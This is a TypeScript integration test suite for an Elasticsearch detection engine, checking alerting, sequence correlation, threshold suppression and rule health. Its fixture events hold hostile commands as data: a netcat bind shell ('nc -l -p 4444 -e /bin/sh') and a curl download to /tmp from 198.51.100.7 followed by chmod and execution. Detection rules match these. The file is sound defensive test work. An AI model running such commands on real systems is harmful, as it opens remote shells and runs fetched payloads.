import { expect } from 'chai';
import type { Client, estypes } from '@elastic/elasticsearch';
import { sharedElasticsearch, uniqueName } from '../../../test/elasticsearch';
import { parseRule } from '../rules';
import type { CompiledRule } from '../rules';
import { Engine } from './engine';
import { stdoutChannel } from '../notify/channels';
import { findSequences, thresholdGroups } from './correlate';
import type { Hit } from './alert';
import { healthDocId, healthMetrics } from './health';
import { setup } from '../../../elastic-templates/src/setup';
import { removeNamespace } from '../../../elastic-templates/src/fixtures';

function rule(yaml: string, index: string): CompiledRule {
  const r = parseRule(yaml, 'inline.yml', { defaultIndex: [index] });
  if (!r.rule) throw new Error(r.errors.map((e) => e.message).join('\n'));
  return r.rule;
}

const base = (id: string, extra: string) => `
id: ${id}
name: Test ${id}
description: test rule
severity: high
risk_score: 73
threat:
  - framework: MITRE ATT&CK
    tactic: { id: TA0011, name: Command and Control }
schedule: { interval: 5s, lookback: 1m }
${extra}
`;

let seq = 1000;
function ev(t: string, args: string[], extra: Record<string, unknown> = {}): Record<string, unknown> {
  seq++;
  return {
    '@timestamp': t,
    event: { kind: 'event', action: 'executed', category: ['process'], type: ['start'], ingested: new Date().toISOString() },
    host: { name: 'web-1', id: 'h1' },
    user: { id: '0', name: 'root', audit: { id: '1000', name: 'bob' } },
    process: { executable: `/usr/bin/${args[0]}`, name: args[0], args, pid: seq, entity_id: `e${seq}`, entry_leader: { entity_id: 'sess-1' } },
    auditd: { sequence: seq, session: '3' },
    ...extra,
  };
}

describe('detection engine @integration', function () {
  this.timeout(60_000);
  let client: Client;
  let events: string;
  let alerts: string;

  let namespace: string;
  before(async () => {
    client = (await sharedElasticsearch()).client;
    // The real schema: the engine must work on what setup installs, alerts and health documents alike.
    namespace = uniqueName('eng').replace(/[^a-z0-9_]/g, '_');
    const report = await setup(client, { namespace });
    events = report.targets.events.name;
    alerts = report.targets.alerts.name;
    const docs = [
      ev('2026-11-25T10:00:00.000Z', ['nc', '-l', '-p', '4444', '-e', '/bin/sh']),
      ev('2026-11-25T10:00:01.000Z', ['ls', '-la']),
      ev('2026-11-25T10:00:02.000Z', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']),
      ev('2026-11-25T10:00:03.000Z', ['chmod', '+x', '/tmp/x']),
      ev('2026-11-25T10:00:04.000Z', ['x'], { process: { executable: '/tmp/x', name: 'x', args: ['/tmp/x'], entry_leader: { entity_id: 'sess-1' } } }),
      ...['id', 'whoami', 'uname', 'hostname', 'ifconfig'].map((c, i) => ev(`2026-11-25T10:00:1${i}.000Z`, [c])),
    ];
    await client.bulk({ refresh: true, operations: docs.flatMap((d, i) => [{ create: { _index: events, _id: `ev-${i}` } }, d]) });
  });

  after(async () => {
    await removeNamespace(client, namespace);
  });

  const alertsOf = (ruleId: string) => {
    const filter: estypes.QueryDslQueryContainer[] = [{ term: { 'rule.id': ruleId } }, { term: { 'event.kind': 'alert' } }];
    return client.search({ index: alerts, query: { bool: { filter } } as unknown as estypes.QueryDslQueryContainer });
  };

  it('writes one alert per matching event, once, even with two engines over overlapping windows', async () => {
    const nc = rule(base('nc-listener', `query: 'event.action:executed and process.name:(nc or ncat) and process.args:(-l or --listen)'\nnotification: '{{user.audit.name}} started {{join process.args " "}}'`), events);
    const lines: string[] = [];
    const mk = () => new Engine({ client, rules: [nc], alertsIndex: alerts, refresh: 'wait_for', channels: [stdoutChannel((l) => lines.push(l))] });
    const [a, b] = [mk(), mk()];
    await Promise.all([a.tick(nc), b.tick(nc)]);
    await a.tick(nc); // the next, overlapping window sees the same event
    const found = await alertsOf('nc-listener');
    expect(found.hits.hits).to.have.length(1);
    const doc = found.hits.hits[0]._source as Record<string, any>;
    expect(doc.event.kind).to.equal('alert');
    expect(doc.rule.id).to.equal('nc-listener');
    expect(doc.threat.tactic.id).to.deep.equal(['TA0011']);
    expect(doc.auditsight.alert.source_event_ids).to.deep.equal(['ev-0']);
    expect(doc.process.args).to.deep.equal(['nc', '-l', '-p', '4444', '-e', '/bin/sh']);
    // Exactly one notification across both engines and both runs.
    expect(lines).to.deep.equal(['[high] Test nc-listener: bob started nc -l -p 4444 -e /bin/sh']);
    const h = [...a.ruleHealth(), ...b.ruleHealth()];
    expect(h.reduce((n, x) => n + x.alerts, 0)).to.equal(1);
    expect(h.reduce((n, x) => n + x.duplicates, 0)).to.equal(2);
  });

  it('correlates a download-chmod-execute sequence in one session', async () => {
    const s = rule(
      base(
        'download-chmod-exec',
        `sequence:
  join_on: [process.entry_leader.entity_id]
  max_span: 1m
  steps:
    - query: 'process.name:(curl or wget)'
    - query: 'process.name:chmod and process.args:"+x"'
    - query: 'process.executable:/tmp/*'`,
      ),
      events,
    );
    const e = new Engine({ client, rules: [s], alertsIndex: alerts, refresh: 'wait_for' });
    await e.tick(s);
    const found = await alertsOf('download-chmod-exec');
    expect(found.hits.hits).to.have.length(1);
    expect((found.hits.hits[0]._source as any).auditsight.alert.source_event_ids).to.deep.equal(['ev-2', 'ev-3', 'ev-4']);
  });

  it('alerts on a discovery burst (threshold) once per group, and suppresses within the window', async () => {
    const t = rule(
      base('discovery-burst', `query: 'process.name:(id or whoami or uname or hostname or ifconfig or ls)'\nthreshold: { group_by: [user.name], count: 5 }\nsuppression: { group_by: [user.name], window: 1h }`),
      events,
    );
    const e = new Engine({ client, rules: [t], alertsIndex: alerts, refresh: 'wait_for', healthEveryMs: 0 });
    await e.tick(t);
    await e.tick(t);
    const found = await alertsOf('discovery-burst');
    expect(found.hits.hits).to.have.length(1);
    expect((found.hits.hits[0]._source as any).auditsight.alert.source_event_ids).to.have.length(5);
    expect(e.ruleHealth()[0]).to.include({ alerts: 1, errors: 0 });
    // The rule's health is a state document beside the alerts, readable by anyone who reads alerts.
    await client.indices.refresh({ index: alerts });
    const health = await client.get<{ event: { kind: string }; auditsight: { rule_health: Record<string, unknown> } }>({ index: alerts, id: healthDocId('discovery-burst') });
    expect(health._source!.event.kind).to.equal('state');
    expect(health._source!.auditsight.rule_health).to.include({ runs: 2, errors: 0, alerts: 1 });
    const metrics = await healthMetrics(() => e.ruleHealth()).metrics();
    expect(metrics).to.contain('auditsight_rule_runs_total{rule="discovery-burst"} 2');
    expect(metrics).to.contain('auditsight_rule_healthy{rule="discovery-burst"} 1');
  });

  it('notifies once when suppression merges several matches of one run into one alert', async () => {
    const r = rule(base('ls-suppressed', `query: 'process.name:(ls or id or whoami)'\nsuppression: { group_by: [user.name], window: 1h }\nnotification: '{{process.name}}'`), events);
    const lines: string[] = [];
    const e = new Engine({ client, rules: [r], alertsIndex: alerts, refresh: 'wait_for', channels: [stdoutChannel((l) => lines.push(l))] });
    await e.tick(r);
    expect((await alertsOf('ls-suppressed')).hits.hits).to.have.length(1);
    expect(lines).to.have.length(1);
    expect(e.ruleHealth()[0]).to.include({ alerts: 1, suppressed: 2 });
  });

  it('writes a rule health document at most every healthEveryMs, not on every run', async () => {
    const r = rule(base('health-throttle', `query: 'process.name:whoami'`), events);
    const e = new Engine({ client, rules: [r], alertsIndex: alerts, refresh: 'wait_for' });
    await e.tick(r);
    await e.tick(r);
    await e.tick(r);
    await client.indices.refresh({ index: alerts });
    const doc = await client.get<{ auditsight: { rule_health: { runs: number } } }>({ index: alerts, id: healthDocId('health-throttle') });
    expect(e.ruleHealth()[0].runs).to.equal(3);
    expect(doc._source!.auditsight.rule_health.runs).to.equal(1);
  });

  it('records a failing run in the rule health instead of throwing', async () => {
    const bad = rule(base('bad-index', `query: 'process.name:nc'\nindex: ['${events}']`), events);
    const e = new Engine({ client, rules: [bad], alertsIndex: '_invalid index name' });
    await e.tick(bad);
    const h = e.ruleHealth()[0];
    expect(h.errors).to.equal(1);
    expect(h.lastError).to.match(/invalid|alert writes failed/i);
  });
});

describe('correlation (pure)', () => {
  const hit = (id: string, t: number, key: string, name: string): Hit => ({
    _id: id,
    _index: 'i',
    _source: { '@timestamp': new Date(t).toISOString(), event: { kind: 'event' }, process: { name, entry_leader: { entity_id: key } } },
  });

  it('sequences need order, the same key and the span', () => {
    const a = [hit('a1', 0, 'k1', 'curl'), hit('a2', 0, 'k2', 'curl')];
    const b = [hit('b1', 1000, 'k1', 'chmod'), hit('b2', 120_000, 'k2', 'chmod')];
    const m = findSequences([a, b], ['process.entry_leader.entity_id'], 60_000);
    expect(m.map((x) => x.hits.map((h) => h._id))).to.deep.equal([['a1', 'b1']]);
    expect(findSequences([b, a], ['process.entry_leader.entity_id'], 60_000)).to.deep.equal([]);
  });

  it('threshold ties the alert to the events up to the crossing one', () => {
    const hits = [0, 1, 2, 3].map((i) => hit(`h${i}`, i, 'k', 'id'));
    const g = thresholdGroups(hits, ['process.entry_leader.entity_id'], 3);
    expect(g[0].hits.map((h) => h._id)).to.deep.equal(['h0', 'h1', 'h2']);
  });
});
